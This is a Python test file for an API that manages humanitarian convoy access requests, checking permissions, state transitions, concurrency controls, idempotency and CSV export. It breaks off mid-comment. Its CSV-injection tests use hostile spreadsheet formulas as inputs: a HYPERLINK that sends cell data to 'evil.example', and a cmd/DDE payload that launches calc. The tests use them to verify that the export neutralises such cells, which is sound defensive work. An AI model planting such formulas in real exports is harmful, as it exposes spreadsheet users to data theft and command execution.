"""Access requests: the transition table, isolation, concurrency, idempotency and the convoy story."""

from __future__ import annotations

import gc
import io
import itertools
import uuid
from datetime import UTC, datetime, timedelta

import anyio
import hxl
import pytest
from sqlalchemy import func, select

from api.representations import BodyCache
from auth.roles import OrganizationKind, Role, Scope
from db.models import AccessRequest, AuditEvent, Organization

FUTURE = datetime.now(UTC) + timedelta(days=10)


def _body(city_id, **overrides):
    body = {
        "destination_city_id": city_id,
        "origin_name": "Bab al-Hawa crossing",
        "route": [
            {"kind": "crossing_point", "name": "Bab al-Hawa"},
            {"kind": "checkpoint", "name": "Ramouseh", "controlled_by": "GoS"},
        ],
        "planned_departure": FUTURE.isoformat(),
        "planned_arrival": (FUTURE + timedelta(hours=8)).isoformat(),
        "trucks": 12,
        "people_targeted": 20000,
        "contact": {"name": "Convoy lead", "phone": "+963 000", "email": "lead@example.org"},
        "cargo_lines": [
            {"sector": "food", "item": "Food rations", "quantity": 4000, "unit": "rations"},
            {"sector": "health", "item": "Surgical kits", "quantity": 20, "unit": "kits"},
        ],
    }
    body.update(overrides)
    return body


@pytest.fixture
def city(world, client):
    coordinator = world.headers(world.user(Role.coordinator))
    response = client.post(
        "/v1/cities",
        json={
            "name": "Madaya",
            "pcode": "C2450",
            "adm1_pcode": "SY03",
            "adm1_name": "Rural Damascus",
            "latitude": 33.69,
            "longitude": 36.10,
        },
        headers=coordinator,
    )
    assert response.status_code == 201, response.text
    return response.json()["id"]


@pytest.fixture
def cast(world):
    """Two partner organizations, a coordinator, a co-chair, an observer, an admin, service accounts."""
    wfp, sarc = world.org(OrganizationKind.un_agency, "WFP"), world.org(OrganizationKind.red_cross_red_crescent, "SARC")
    secretariat = world.org(OrganizationKind.secretariat, "Secretariat")
    people = {
        "partner": world.headers(world.user(Role.partner, wfp)),
        "partner_other": world.headers(world.user(Role.partner, sarc)),
        "coordinator": world.headers(world.user(Role.coordinator, secretariat)),
        "co_chair": world.headers(world.user(Role.co_chair)),
        "observer": world.headers(world.user(Role.observer)),
        "admin": world.headers(world.user(Role.admin, secretariat)),
    }
    admin_user = world.user(Role.admin, secretariat)
    people["service_write"] = world.service_headers(
        world.service_account(wfp, [Scope.read, Scope.requests_write], admin_user)
    )
    people["service_read"] = world.service_headers(world.service_account(wfp, [Scope.read], admin_user))
    people["service_other"] = world.service_headers(
        world.service_account(sarc, [Scope.read, Scope.requests_write], admin_user)
    )
    people["service_secretariat"] = world.service_headers(
        world.service_account(secretariat, [Scope.read, Scope.requests_write], admin_user)
    )
    return people


def _create(client, headers, city_id, **overrides):
    response = client.post("/v1/access-requests", json=_body(city_id, **overrides), headers=headers)
    assert response.status_code == 201, response.text
    return response.json()


def _do(client, headers, request_id, action, body=None, etag=None):
    extra = {"If-Match": etag} if etag else {}
    return client.post(f"/v1/access-requests/{request_id}/{action}", json=body, headers={**headers, **extra})


# ---- the transition table, as a table ------------------------------------------------

STATES = [
    "draft",
    "submitted",
    "changes_requested",
    "approved",
    "denied",
    "dispatched",
    "delivered",
    "partially_delivered",
    "turned_back",
    "cancelled",
]
# The product's diagram, written out independently of the implementation.
ALLOWED_FROM = {
    "edit": {"draft", "changes_requested"},
    "submit": {"draft", "changes_requested"},
    "request-changes": {"submitted"},
    "approve": {"submitted"},
    "deny": {"submitted"},
    "dispatch": {"approved"},
    "complete": {"dispatched"},
    "cancel": {"draft", "submitted", "changes_requested", "approved"},
}
# Who may, per the permissions table (the request belongs to WFP).
MAY = {
    "edit": {"partner", "service_write"},
    "submit": {"partner", "service_write"},
    "dispatch": {"partner", "service_write"},
    "complete": {"partner", "service_write", "coordinator"},
    "cancel": {"partner", "service_write", "coordinator"},
    "request-changes": {"coordinator"},
    "approve": {"coordinator"},
    "deny": {"coordinator"},
}
SEES = {"partner", "service_write", "service_read", "coordinator", "co_chair"}
CALLERS = [
    "partner",
    "partner_other",
    "coordinator",
    "co_chair",
    "observer",
    "admin",
    "service_write",
    "service_read",
    "service_other",
]


def _action_body(action, request):
    lines = request["cargo_lines"]
    return {
        "edit": {"trucks": 11},
        "request-changes": {"reason": "Route unclear"},
        "deny": {"reason": "Active hostilities"},
        "cancel": {"reason": "No longer needed"},
        "approve": {"lines": []},
        "complete": {
            "outcome": "delivered",
            "lines": [
                {"line_id": line["id"], "delivered_quantity": line["approved_quantity"] or line["quantity"]}
                for line in lines
            ],
        },
    }.get(action)


def _expected(caller, action, state):
    if caller not in SEES:
        return 404
    if caller not in MAY[action]:
        return 403
    if state not in ALLOWED_FROM[action]:
        return 409
    return 200


@pytest.mark.parametrize("state", STATES)
def test_transition_table(world, client, session, city, cast, state, audit_count):
    failures = []
    for action, caller in itertools.product(ALLOWED_FROM, CALLERS):
        created = _create(client, cast["partner"], city)
        row = session.get(AccessRequest, uuid.UUID(created["id"]))
        row.status = state
        session.add(row)
        session.commit()
        current = client.get(f"/v1/access-requests/{created['id']}", headers=cast["partner"]).json()
        before = audit_count()
        if action == "edit":
            response = client.patch(
                f"/v1/access-requests/{created['id']}",
                json=_action_body(action, current),
                headers={**cast[caller], "If-Match": "*"},
            )
        else:
            response = _do(client, cast[caller], created["id"], action, _action_body(action, current))
        expected = _expected(caller, action, state)
        if response.status_code != expected:
            failures.append(
                f"{caller} {action} from {state}: {response.status_code} != {expected} {response.text[:150]}"
            )
            continue
        if expected == 409:
            body = response.json()
            assert body["state"] == state and isinstance(body["allowed_actions"], list)
            assert body["type"] == "urn:aidaccess:problem:invalid-state"
        if expected != 200:
            assert audit_count() == before, f"{caller} {action} from {state} wrote"
        else:
            assert audit_count() == before + 1, f"{caller} {action} from {state}: not exactly one event"
    assert not failures, "\n".join(failures)


def test_a_coordinator_never_reviews_their_own_organizations_request(client, city, cast):
    created = _create(client, cast["service_secretariat"], city)
    assert _do(client, cast["service_secretariat"], created["id"], "submit").status_code == 200
    for action, body in (("approve", {}), ("deny", {"reason": "x"}), ("request-changes", {"reason": "x"})):
        response = _do(client, cast["coordinator"], created["id"], action, body)
        assert response.status_code == 403, response.text
        assert "own organization" in response.json()["detail"]


def test_409_names_the_state_and_what_is_allowed_now(client, city, cast):
    created = _create(client, cast["partner"], city)
    _do(client, cast["partner"], created["id"], "submit")
    response = client.patch(
        f"/v1/access-requests/{created['id']}", json={"trucks": 3}, headers={**cast["partner"], "If-Match": "*"}
    )
    assert response.status_code == 409
    assert response.json()["state"] == "submitted"
    assert response.json()["allowed_actions"] == ["cancel"]
    as_coordinator = client.patch(
        f"/v1/access-requests/{created['id']}", json={"trucks": 3}, headers={**cast["coordinator"], "If-Match": "*"}
    )
    assert as_coordinator.status_code == 403


# ---- isolation -----------------------------------------------------------------------


def test_partners_see_only_their_own_organizations_requests(client, city, cast):
    mine = _create(client, cast["partner"], city)
    theirs = _create(client, cast["partner_other"], city)
    for caller, visible, hidden in (
        ("partner", mine, theirs),
        ("partner_other", theirs, mine),
        ("service_read", mine, theirs),
    ):
        headers = cast[caller]
        listed = [r["id"] for r in client.get("/v1/access-requests", headers=headers).json()["items"]]
        assert visible["id"] in listed and hidden["id"] not in listed, caller
        assert client.get(f"/v1/access-requests/{hidden['id']}", headers=headers).status_code == 404
        assert client.get(f"/v1/access-requests/{hidden['id']}/history", headers=headers).status_code == 404
        for action in ("submit", "dispatch", "approve"):
            assert _do(client, headers, hidden["id"], action, {}).status_code == 404
        assert (
            client.patch(
                f"/v1/access-requests/{hidden['id']}", json={"trucks": 1}, headers={**headers, "If-Match": "*"}
            ).status_code
            == 404
        )
        assert client.get("/v1/access-requests/counts", headers=headers).json()["total"] == 1
        # Filtering by the other organization shows nothing, not an error that confirms it.
        assert (
            client.get(
                "/v1/access-requests", params={"organization_id": hidden["organization_id"]}, headers=headers
            ).json()["items"]
            == []
        )
    everything = [r["id"] for r in client.get("/v1/access-requests", headers=cast["coordinator"]).json()["items"]]
    assert {mine["id"], theirs["id"]} <= set(everything)
    assert client.get(f"/v1/access-requests/{mine['id']}", headers=cast["co_chair"]).status_code == 200


def test_observers_and_admins_get_counts_only(client, city, cast):
    created = _create(client, cast["partner"], city)
    for caller in ("observer", "admin"):
        assert client.get("/v1/access-requests", headers=cast[caller]).status_code == 403
        assert client.get(f"/v1/access-requests/{created['id']}", headers=cast[caller]).status_code == 404
    # Observers count requests as they stood at the start of the day (tests/test_convoy_secrecy.py);
    # the partner counts its own at once.
    assert client.get("/v1/access-requests/counts", headers=cast["observer"]).json() == {"items": [], "total": 0}
    counts = client.get("/v1/access-requests/counts", headers=cast["partner"]).json()
    assert counts["total"] == 1 and counts["items"] == [{"status": "draft", "destination_city_id": city, "count": 1}]
    assert "route" not in str(counts)
    assert client.get("/v1/access-requests/counts", headers=cast["admin"]).status_code == 403


# ---- bad input -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "overrides, field",
    [
        ({"destination_city_id": str(uuid.uuid4())}, "body.destination_city_id"),
        ({"pause_id": str(uuid.uuid4())}, "body.pause_id"),
        (
            {"cargo_lines": [{"sector": "food", "item": "Rice", "quantity": 0, "unit": "MT"}]},
            "body.cargo_lines.0.quantity",
        ),
        (
            {"cargo_lines": [{"sector": "food", "item": "Rice", "quantity": -5, "unit": "MT"}]},
            "body.cargo_lines.0.quantity",
        ),
        ({"cargo_lines": [{"sector": "food", "item": "", "quantity": 5, "unit": "MT"}]}, "body.cargo_lines.0.item"),
        (
            {"cargo_lines": [{"sector": "weapons", "item": "X", "quantity": 5, "unit": "MT"}]},
            "body.cargo_lines.0.sector",
        ),
        ({"cargo_lines": []}, "body.cargo_lines"),
        (
            {"cargo_lines": [{"sector": "food", "item": f"Item {i}", "quantity": 1, "unit": "kg"} for i in range(51)]},
            "body.cargo_lines",
        ),
        ({"planned_arrival": (FUTURE - timedelta(hours=1)).isoformat()}, "body.planned_arrival"),
        ({"planned_departure": "2030-01-01T06:00:00"}, "body.planned_departure"),
        ({"trucks": 0}, "body.trucks"),
        ({"origin_name": None}, "body.origin_name"),
    ],
)
def test_invalid_request_is_422_with_nothing_written(client, session, city, cast, audit_count, overrides, field):
    before = audit_count()
    count_before = session.execute(select(func.count()).select_from(AccessRequest)).scalar_one()
    response = client.post("/v1/access-requests", json=_body(city, **overrides), headers=cast["partner"])
    assert response.status_code == 422, response.text
    assert field in [e["field"] for e in response.json()["errors"]]
    assert audit_count() == before
    assert session.execute(select(func.count()).select_from(AccessRequest)).scalar_one() == count_before


def test_departure_in_the_past_on_submit(world, client, city, cast, frozen_clock):
    partner = world.user(Role.partner, world.org(OrganizationKind.ngo))
    headers = world.headers(partner)
    soon = frozen_clock.now + timedelta(minutes=5)
    created = _create(
        client,
        headers,
        city,
        planned_departure=soon.isoformat(),
        planned_arrival=(soon + timedelta(hours=1)).isoformat(),
    )
    frozen_clock.advance(minutes=6)
    response = _do(client, headers, created["id"], "submit")
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "body.planned_departure"


@pytest.mark.parametrize("reasonless", ["deny", "request-changes", "cancel"])
def test_deny_request_changes_and_cancel_need_a_reason(client, city, cast, reasonless):
    created = _create(client, cast["partner"], city)
    _do(client, cast["partner"], created["id"], "submit")
    for body in (None, {}, {"reason": ""}, {"reason": "   "}):
        response = _do(client, cast["coordinator"], created["id"], reasonless, body)
        assert response.status_code == 422, (body, response.text)


def test_approval_may_reduce_but_never_raise_a_line(client, city, cast):
    created = _create(client, cast["partner"], city)
    _do(client, cast["partner"], created["id"], "submit")
    kits = created["cargo_lines"][1]["id"]
    too_much = _do(
        client, cast["coordinator"], created["id"], "approve", {"lines": [{"line_id": kits, "approved_quantity": 21}]}
    )
    assert too_much.status_code == 422
    unknown = _do(
        client,
        cast["coordinator"],
        created["id"],
        "approve",
        {"lines": [{"line_id": str(uuid.uuid4()), "approved_quantity": 1}]},
    )
    assert unknown.status_code == 422
    ok = _do(
        client, cast["coordinator"], created["id"], "approve", {"lines": [{"line_id": kits, "approved_quantity": 15}]}
    )
    assert ok.status_code == 200
    assert [line["approved_quantity"] for line in ok.json()["cargo_lines"]] == [4000, 15]


# ---- versions, ETags, If-Match -------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"contact": None}, "body.contact"),  # found by the stateful fuzzer: stored, then a 500 on every read
        ({"route": None}, "body.route"),
        ({"trucks": None}, "body.trucks"),
        ({"destination_city_id": None}, "body.destination_city_id"),
        ({"cargo_lines": None}, "body.cargo_lines"),
        ({"origin_name": None}, "body.origin_name"),  # the only origin it had
        ({"origin_name": "   "}, "body.origin_name"),
    ],
)
def test_an_edit_never_removes_what_a_request_needs(client, city, cast, audit_count, changes, field):
    created = client.post("/v1/access-requests", json=_body(city), headers=cast["partner"]).json()
    before = audit_count()
    response = client.patch(
        f"/v1/access-requests/{created['id']}", json=changes, headers={**cast["partner"], "If-Match": "*"}
    )
    assert response.status_code == 422, response.text
    assert field in [e["field"] for e in response.json()["errors"]]
    assert audit_count() == before
    now = client.get(f"/v1/access-requests/{created['id']}", headers=cast["partner"])
    assert now.status_code == 200 and now.json() == created


def test_an_edit_may_swap_the_origin_between_a_city_and_a_name(client, city, cast):
    created = client.post("/v1/access-requests", json=_body(city), headers=cast["partner"]).json()
    to_city = client.patch(
        f"/v1/access-requests/{created['id']}",
        json={"origin_city_id": city, "origin_name": None},
        headers={**cast["partner"], "If-Match": "*"},
    )
    assert to_city.status_code == 200, to_city.text
    assert (to_city.json()["origin_city_id"], to_city.json()["origin_name"]) == (city, None)
    # With the city as its origin, the name may go; without it, a name must come back.
    assert (
        client.patch(
            f"/v1/access-requests/{created['id']}",
            json={"origin_city_id": None},
            headers={**cast["partner"], "If-Match": "*"},
        ).status_code
        == 422
    )
    to_name = client.patch(
        f"/v1/access-requests/{created['id']}",
        json={"origin_city_id": None, "origin_name": "Bab al-Salam"},
        headers={**cast["partner"], "If-Match": "*"},
    )
    assert to_name.status_code == 200 and to_name.json()["origin_name"] == "Bab al-Salam"


def test_etag_and_if_match(client, city, cast, audit_count):
    created = client.post("/v1/access-requests", json=_body(city), headers=cast["partner"])
    etag = created.headers["etag"]
    assert etag == '"1"' and created.json()["version"] == 1
    request_id = created.json()["id"]
    edited = client.patch(
        f"/v1/access-requests/{request_id}", json={"trucks": 9}, headers={**cast["partner"], "If-Match": etag}
    )
    assert edited.status_code == 200 and edited.headers["etag"] == '"2"'
    before = audit_count()
    stale = client.patch(
        f"/v1/access-requests/{request_id}", json={"trucks": 8}, headers={**cast["partner"], "If-Match": etag}
    )
    assert stale.status_code == 412 and stale.headers["content-type"] == "application/problem+json"
    assert _do(client, cast["partner"], request_id, "submit", etag=etag).status_code == 412
    assert audit_count() == before
    assert _do(client, cast["partner"], request_id, "submit", etag='"2"').status_code == 200
    assert client.get(f"/v1/access-requests/{request_id}", headers=cast["partner"]).json()["trucks"] == 9


@pytest.mark.parametrize("path", ["/v1/access-requests/{id}", "/v1/pauses/{id}"])
def test_an_edit_without_if_match_is_428_and_changes_nothing(client, city, cast, audit_count, path, frozen_clock):
    """Two editors must not overwrite each other unseen: an edit names the version it changes."""
    if "pauses" in path:
        starts = frozen_clock.now + timedelta(days=5)
        created = client.post(
            "/v1/pauses",
            json={
                "city_ids": [city],
                "starts_at": starts.isoformat(),
                "ends_at": (starts + timedelta(hours=48)).isoformat(),
                "purpose": "Evacuations",
            },
            headers=cast["coordinator"],
        )
        editor, change = cast["coordinator"], {"purpose": "Evacuations and food"}
    else:
        created = client.post("/v1/access-requests", json=_body(city), headers=cast["partner"])
        editor, change = cast["partner"], {"trucks": 9}
    url = path.format(id=created.json()["id"])
    before = audit_count()
    refused = client.patch(url, json=change, headers=editor)
    assert refused.status_code == 428 and refused.headers["content-type"] == "application/problem+json"
    assert refused.json()["header"] == "If-Match" and "If-Match" in refused.json()["detail"]
    assert audit_count() == before and client.get(url, headers=editor).headers["etag"] == created.headers["etag"]
    # "*" overwrites on purpose; the ETag read is the usual way.
    assert client.patch(url, json=change, headers={**editor, "If-Match": created.headers["etag"]}).status_code == 200
    assert client.patch(url, json=change, headers={**editor, "If-Match": "*"}).status_code == 200


def test_a_create_answers_exactly_what_reading_the_request_back_gives(client, cast, city):
    """A create's answer is built from the lines as written, not read back: it must not differ from a read."""
    lines = [
        {"sector": "food", "item": "  Wheat   flour ", "quantity": 2.5, "unit": " MT "},
        {"sector": "health", "item": "Surgical kits", "quantity": 20, "unit": "kits"},
        {"sector": "wash", "item": "Hygiene kits", "quantity": 1000, "unit": "kits"},
    ]
    created = client.post("/v1/access-requests", json=_body(city, cargo_lines=lines), headers=cast["partner"])
    assert created.status_code == 201, created.text
    read = client.get(f"/v1/access-requests/{created.json()['id']}", headers=cast["partner"])
    assert created.json() == read.json()
    assert created.headers["etag"] == read.headers["etag"]
    assert [(line["item"], line["unit"]) for line in created.json()["cargo_lines"]] == [
        ("Wheat flour", "MT"),
        ("Surgical kits", "kits"),
        ("Hygiene kits", "kits"),
    ]


def test_a_known_city_is_not_asked_for_again_and_an_unknown_one_always_is(client, session, cast, city):
    """Cities are never removed, so a create naming a city found before reads nothing of it; an
    unknown id is asked about each time (it may exist by then) and refused."""
    from sqlalchemy import event

    connection = session.connection()
    asked = []

    def capture(conn, cursor, statement, parameters, context, executemany):  # noqa: ANN001, ARG001
        if statement.lstrip().startswith("SELECT city.id"):
            asked.append(statement)

    _create(client, cast["partner"], city)  # found, so known from now on
    unknown = str(uuid.uuid4())
    event.listen(connection, "before_cursor_execute", capture)
    try:
        _create(client, cast["partner"], city)
        refused = [client.post("/v1/access-requests", json=_body(unknown), headers=cast["partner"]) for _ in range(2)]
    finally:
        event.remove(connection, "before_cursor_execute", capture)
    assert [r.status_code for r in refused] == [422, 422]
    assert all(r.json()["errors"][0]["field"] == "body.destination_city_id" for r in refused)
    assert len(asked) == 2  # the unknown city, once per create; the known one, never


# ---- idempotency ---------------------------------------------------------------------


def test_idempotent_create_replays_the_first_response(client, session, city, cast, audit_count):
    headers = {**cast["partner"], "Idempotency-Key": "convoy-2016-10-20"}
    first = client.post("/v1/access-requests", json=_body(city), headers=headers)
    before = audit_count()
    retries = [client.post("/v1/access-requests", json=_body(city), headers=headers) for _ in range(3)]
    assert all(r.status_code == 201 and r.json()["id"] == first.json()["id"] for r in retries)
    assert all(r.headers["idempotent-replayed"] == "true" for r in retries)
    # The first response, headers included: its ETag names the version it created.
    assert first.headers["etag"] == '"1"' and all(r.headers["etag"] == '"1"' for r in retries)
    assert audit_count() == before
    assert session.execute(select(func.count()).select_from(AccessRequest)).scalar_one() == 1
    other_body = client.post("/v1/access-requests", json=_body(city, trucks=99), headers=headers)
    assert other_body.status_code == 422 and other_body.json()["errors"][0]["field"] == "header.idempotency-key"
    # Keys belong to their caller: another caller's same key is another request.
    theirs = client.post(
        "/v1/access-requests",
        json=_body(city),
        headers={**cast["partner_other"], "Idempotency-Key": "convoy-2016-10-20"},
    )
    assert theirs.status_code == 201 and theirs.json()["id"] != first.json()["id"]


def test_idempotency_keys_live_24_hours(world, client, session, city, frozen_clock):
    partner = world.user(Role.partner, world.org(OrganizationKind.ngo))
    body = _body(
        city,
        planned_departure=(frozen_clock.now + timedelta(days=3)).isoformat(),
        planned_arrival=(frozen_clock.now + timedelta(days=3, hours=2)).isoformat(),
    )
    first = client.post(
        "/v1/access-requests", json=body, headers={**world.headers(partner), "Idempotency-Key": "k1"}
    ).json()
    frozen_clock.advance(hours=23, minutes=59)
    replay = client.post("/v1/access-requests", json=body, headers={**world.headers(partner), "Idempotency-Key": "k1"})
    assert replay.json()["id"] == first["id"]
    frozen_clock.advance(minutes=2)
    later = client.post("/v1/access-requests", json=body, headers={**world.headers(partner), "Idempotency-Key": "k1"})
    assert later.status_code == 201 and later.json()["id"] != first["id"]


def test_a_failed_create_does_not_burn_its_key(client, city, cast):
    headers = {**cast["partner"], "Idempotency-Key": "k-bad"}
    assert client.post("/v1/access-requests", json=_body(city, trucks=0), headers=headers).status_code == 422
    assert client.post("/v1/access-requests", json=_body(city), headers=headers).status_code == 201


# ---- review deadlines ----------------------------------------------------------------


def test_review_due_in_seven_working_days_skipping_friday_and_saturday(world, client, city, frozen_clock):
    # Sunday 2 October 2016, 10:00 in Damascus (UTC+3): 7 working days on is Monday 11 October... counted:
    # Mon 3, Tue 4, Wed 5, Thu 6, (Fri 7, Sat 8), Sun 9, Mon 10, Tue 11.
    frozen_clock.now = datetime(2016, 10, 2, 7, 0, tzinfo=UTC)
    partner = world.user(Role.partner, world.org(OrganizationKind.ngo))
    coordinator = world.headers(world.user(Role.coordinator))
    headers = world.headers(partner)
    departure = datetime(2016, 10, 30, 6, 0, tzinfo=UTC)
    created = _create(
        client,
        headers,
        city,
        planned_departure=departure.isoformat(),
        planned_arrival=(departure + timedelta(hours=5)).isoformat(),
    )
    submitted = _do(client, headers, created["id"], "submit").json()
    assert submitted["review_due_at"] == "2016-10-11T07:00:00Z"
    assert submitted["overdue"] is False
    assert client.get("/v1/access-requests", params={"overdue": "true"}, headers=coordinator).json()["items"] == []
    frozen_clock.now = datetime(2016, 10, 11, 7, 0, 1, tzinfo=UTC)
    coordinator = world.headers(world.user(Role.coordinator))
    overdue = client.get("/v1/access-requests", params={"overdue": "true"}, headers=coordinator).json()["items"]
    assert [r["id"] for r in overdue] == [created["id"]] and overdue[0]["overdue"] is True
    not_overdue = client.get("/v1/access-requests", params={"overdue": "false"}, headers=coordinator).json()["items"]
    assert created["id"] not in [r["id"] for r in not_overdue]


# ---- listing -------------------------------------------------------------------------


def test_list_filters_sorts_and_pages(client, city, cast):
    ids = []
    for days in (5, 3, 9, 1, 7):
        departure = datetime.now(UTC) + timedelta(days=days)
        ids.append(
            (
                days,
                _create(
                    client,
                    cast["partner"],
                    city,
                    planned_departure=departure.isoformat(),
                    planned_arrival=(departure + timedelta(hours=3)).isoformat(),
                )["id"],
            )
        )
    _do(client, cast["partner"], ids[0][1], "submit")
    seen, cursor = [], None
    while True:
        params = {"limit": 2, "sort": "departure", "order": "desc"} | ({"cursor": cursor} if cursor else {})
        page = client.get("/v1/access-requests", params=params, headers=cast["coordinator"]).json()
        seen += [r["id"] for r in page["items"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert seen == [i for _, i in sorted(ids, reverse=True)]
    submitted = client.get("/v1/access-requests", params={"status": ["submitted"]}, headers=cast["coordinator"]).json()[
        "items"
    ]
    assert [r["id"] for r in submitted] == [ids[0][1]]
    both = client.get(
        "/v1/access-requests", params={"status": ["submitted", "draft"]}, headers=cast["coordinator"]
    ).json()["items"]
    assert len(both) == 5
    window = client.get(
        "/v1/access-requests",
        params={
            "departure_from": (datetime.now(UTC) + timedelta(days=2)).isoformat(),
            "departure_to": (datetime.now(UTC) + timedelta(days=6)).isoformat(),
        },
        headers=cast["coordinator"],
    ).json()["items"]
    assert {r["id"] for r in window} == {ids[0][1], ids[1][1]}
    assert (
        client.get(
            "/v1/access-requests", params={"departure_from": "2016-01-01T00:00:00"}, headers=cast["coordinator"]
        ).status_code
        == 422
    )
    by_created = client.get("/v1/access-requests", params={"limit": 2}, headers=cast["coordinator"]).json()
    after = client.get(
        "/v1/access-requests", params={"limit": 10, "cursor": by_created["next_cursor"]}, headers=cast["coordinator"]
    ).json()
    assert [r["id"] for r in by_created["items"] + after["items"]] == [i for _, i in ids]


def test_one_statement_per_kind_of_list_each_call_binding_its_own_values(world, client, city, cast):
    """A list's statement is built once for each combination of filters (workflow._list_statement):
    whose requests, which city and which page are bound at each call, never built in."""
    coordinator = world.headers(world.user(Role.coordinator))
    other_city = client.post(
        "/v1/cities",
        json={
            "name": "Zabadani",
            "pcode": "C2451",
            "adm1_pcode": "SY03",
            "adm1_name": "Rural Damascus",
            "latitude": 33.72,
            "longitude": 36.10,
        },
        headers=coordinator,
    ).json()["id"]
    here = _create(client, cast["partner"], city)["id"]
    there = _create(client, cast["partner"], other_city)["id"]
    theirs = _create(client, cast["partner_other"], other_city)["id"]

    def ids(caller: str, **params) -> list[str]:  # noqa: ANN003
        response = client.get("/v1/access-requests", params=params, headers=cast[caller])
        assert response.status_code == 200, response.text
        return [r["id"] for r in response.json()["items"]]

    assert ids("partner", destination_city_id=city) == [here]
    assert ids("partner", destination_city_id=other_city) == [there]
    assert ids("partner_other", destination_city_id=other_city) == [theirs]
    assert sorted(ids("coordinator", destination_city_id=other_city)) == sorted([there, theirs])
    assert ids("coordinator", destination_city_id=city) == [here]
    walked, cursor = [], None
    while True:
        page = client.get(
            "/v1/access-requests",
            params={"limit": 1} | ({"cursor": cursor} if cursor else {}),
            headers=cast["coordinator"],
        ).json()
        walked += [r["id"] for r in page["items"]]
        if not (cursor := page["next_cursor"]):
            break
    assert walked == sorted([here, there, theirs])  # by id, one page each


def test_csv_export_one_row_per_cargo_line_with_hxl(client, city, cast):
    created = _create(client, cast["partner"], city)
    response = client.get("/v1/access-requests", headers={**cast["coordinator"], "Accept": "text/csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    dataset = hxl.data(io.BytesIO(response.content))
    rows = list(dataset)
    assert len(rows) == 2
    assert {row.get("#item+name") for row in rows} == {"Food rations", "Surgical kits"}
    assert rows[0].get("#org") == "WFP" and rows[0].get("#loc+dest") == "Madaya" and rows[0].get("#status") == "draft"
    assert rows[0].get("#meta+id") == created["id"] and rows[0].get("#targeted") == "20000"
    for tag in ("#sector", "#date+start", "#reached"):
        assert tag in [c.display_tag for c in dataset.columns]


def test_only_coordinators_export_every_convoy(client, city, cast):
    """The export holds every organization's routes and dates: the policy's export_access_requests."""
    _create(client, cast["partner_other"], city)
    for caller, headers in cast.items():
        response = client.get("/v1/access-requests", headers={**headers, "Accept": "text/csv"})
        if caller == "coordinator":
            assert response.status_code == 200 and b"SARC" in response.content, caller
        else:
            assert response.status_code == 403 and b"SARC" not in response.content, caller
            assert response.headers["content-type"] == "application/problem+json", caller


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, city, cast, start):
    """OWASP's rule for CSV injection: a cell that begins with = + - @ tab or CR gets a leading
    apostrophe; read back with libhxl, every other cell is as it was."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    created = _create(
        client,
        cast["partner"],
        city,
        cargo_lines=[
            {"sector": "food", "item": formula, "quantity": 5, "unit": f"{start}SUM(1+1)"},
            {"sector": "health", "item": "Surgical kits", "quantity": 20, "unit": "kits"},
        ],
    )
    response = client.get("/v1/access-requests", headers={**cast["coordinator"], "Accept": "text/csv"})
    rows = list(hxl.data(io.BytesIO(response.content)))
    dangerous = next(row for row in rows if row.get("#sector") == "food")
    # Text is stored without its surrounding white space, so a leading tab or CR may be gone already.
    stored = next(line for line in created["cargo_lines"] if line["sector"] == "food")
    for tag, value in (("#item+name", stored["item"]), ("#item+unit", stored["unit"])):
        assert dangerous.get(tag) == ("'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value)
    assert stored["item"] == formula or start in "\t\r"
    plain = next(row for row in rows if row.get("#sector") == "health")
    assert plain.get("#item+name") == "Surgical kits" and plain.get("#item+unit") == "kits"
    assert dangerous.get("#meta+id") == created["id"] and dangerous.get("#indicator+num+requested") == "5"
    for line in response.text.splitlines():
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@")) or cell.startswith("'")


def test_spreadsheet_safe_follows_owasps_rule():
    from api.representations import spreadsheet_safe

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1+2") == f"'{start}1+2"
    assert spreadsheet_safe("Rice = 5 MT") == "Rice = 5 MT"
    assert spreadsheet_safe(-36.25) == -36.25 and spreadsheet_safe(None) is None


def test_the_snapshots_csv_neutralises_formulas_and_keeps_numbers(client, cast):
    coordinator = cast["coordinator"]
    created = client.post(
        "/v1/cities",
        json={
            "name": "=cmd|' /C calc'!A0",
            "name_ar": "@SUM(1)",
            "pcode": "C9876",
            "adm1_pcode": "SY03",
            "adm1_name": "-Rural",
            "latitude": -33.5,
            "longitude": -36.25,
        },
        headers=coordinator,
    )
    assert created.status_code == 201, created.text
    response = client.get("/v1/access-snapshot", params={"format": "hxl"}, headers=coordinator)
    row = next(r for r in hxl.data(io.BytesIO(response.content)) if r.get("#meta+id") == created.json()["id"])
    assert row.get("#loc+name") == "'=cmd|' /C calc'!A0" and row.get("#loc+name+i_ar") == "'@SUM(1)"
    assert row.get("#adm1+name") == "'-Rural"
    assert row.get("#geo+lat") == "-33.5" and row.get("#geo+lon") == "-36.25"  # numbers are not formulas


# ---- the convoy story ----------------------------------------------------------------


def test_a_convoy_from_draft_to_partially_delivered(client, city, cast):
    partner, coordinator = cast["partner"], cast["coordinator"]
    created = _create(client, partner, city)
    request_id = created["id"]
    food, kits = (line["id"] for line in created["cargo_lines"])
    assert _do(client, partner, request_id, "submit").json()["status"] == "submitted"
    sent_back = _do(client, coordinator, request_id, "request-changes", {"reason": "Name the second checkpoint"})
    assert (
        sent_back.json()["status"] == "changes_requested"
        and sent_back.json()["last_reason"] == "Name the second checkpoint"
    )
    edited = client.patch(
        f"/v1/access-requests/{request_id}",
        json={
            "route": [
                {"kind": "crossing_point", "name": "Bab al-Hawa"},
                {"kind": "checkpoint", "name": "Ramouseh"},
                {"kind": "checkpoint", "name": "Al-Zahraa"},
            ]
        },
        headers={**partner, "If-Match": "*"},
    )
    assert edited.status_code == 200 and len(edited.json()["route"]) == 3
    food, kits = (line["id"] for line in edited.json()["cargo_lines"])
    assert _do(client, partner, request_id, "submit").status_code == 200
    approved = _do(
        client,
        coordinator,
        request_id,
        "approve",
        {"lines": [{"line_id": kits, "approved_quantity": 15}], "note": "Kits reduced"},
    )
    assert approved.json()["status"] == "approved" and approved.json()["approved_at"]
    # An approved convoy shows in the city's picture as upcoming at once to who reads every convoy; to the
